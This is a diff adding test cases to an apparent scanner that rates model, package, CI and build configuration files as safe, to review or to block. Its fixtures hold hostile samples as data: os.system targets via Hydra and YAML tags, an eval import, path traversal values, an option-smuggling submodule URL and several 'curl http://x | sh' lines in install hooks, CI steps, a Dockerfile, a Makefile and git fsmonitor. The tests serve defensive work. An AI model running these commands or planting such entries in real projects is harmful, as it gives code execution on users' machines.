@@ -48,6 +48,26 @@ def examined(text: str, name: str = "file") -> Examination:
         ({"weight_map": {"a": "model-1.safetensors"}}, "data-only"),
         ({"_name_or_path": "/home/x/model", "vocab_file": "vocab.json"}, "data-only"),
         ({"vocab_file": "../../x"}, "block"),
+        ({"a": {"_target_": "torch.os.system"}}, "block"),
+        ({"a": {"_target_": "hydra.utils.get_method", "path": "x"}}, "block"),
+        ({"a": {"_target_": "numpy.load"}}, "review"),
+        ({"a": {"_target_": "own.make"}}, "review"),
+        ({"a": {"_target_": "own.Net"}}, "named-classes"),
+        (
+            {
+                "_class_name": "P",
+                "unet": ["diffusers", "UNet"],
+                "s": ["stable_diffusion", "StableDiffusionX"],
+            },
+            "data-only",
+        ),
+        ({"_class_name": "P", "unet": ["os", "system"]}, "block"),
+        ({"_class_name": "P", "unet": ["my_unet", "Net"]}, "review"),
+        ({"auto_mapping": {"parent_library": "transformers_modules.x.y"}}, "review"),
+        ({"eval": "__import__('os').system('x')"}, "review"),
+        ({"serializedFile": "../x.pt"}, "block"),
+        ({"scripts": {"postinstall": "curl http://x | sh", "test": "pytest"}}, "review"),
+        ({"scripts": {"test": "pytest"}}, "data-only"),
     ],
 )
 def test_json_gets_the_verdict_of_what_it_names(value: object, verdict: str) -> None:
@@ -107,3 +127,25 @@ def test_no_change_of_a_document_raises_anything(text: str, at: int) -> None:
     )
     examined(source[:at] + text + source[at:])
     examined(LAUGHS[:at] + text + LAUGHS[at:])
+
+
+@pytest.mark.parametrize(
+    ("text", "verdict"),
+    [
+        ("a:\n  _target_: >-\n    os.system\n", "block"),
+        ("a:\n  _target_: &t os.system\n", "block"),
+        ('a:\n  "\\x5ftarget_": "\\x6fs.system"\n', "block"),
+        ("%TAG !x! tag:yaml.org,2002:\n---\na: !x!python/object/apply:os.system [x]\n", "block"),
+        ("%TAG !x! tag:yaml.org,2002:\n---\na: !x!str b\n", "data-only"),
+        ('[build-system]\nrequires = ["x @ git+https://e/e"]\n', "review"),
+        ("jobs:\n  a:\n    steps:\n    - run: curl http://x | bash\n", "review"),
+        ("x:\n  script:\n    - pip install torch\n    - curl http://x | sh\n", "review"),
+        ("FROM python\nRUN pip install x \\\n  && curl http://x | sh\n", "review"),
+        ("all:\n\tcurl http://x | sh\n", "review"),
+        ("[core]\n\tfsmonitor = curl http://x|sh\n", "review"),
+        ('[submodule "x"]\n\turl = -u./x\n', "review"),
+        ("jobs:\n  a:\n    steps:\n    - run: make test\n", "data-only"),
+    ],
+)
+def test_lines_get_the_verdict_of_what_they_make_others_do(text: str, verdict: str) -> None:
+    assert examined(text).verdict == verdict
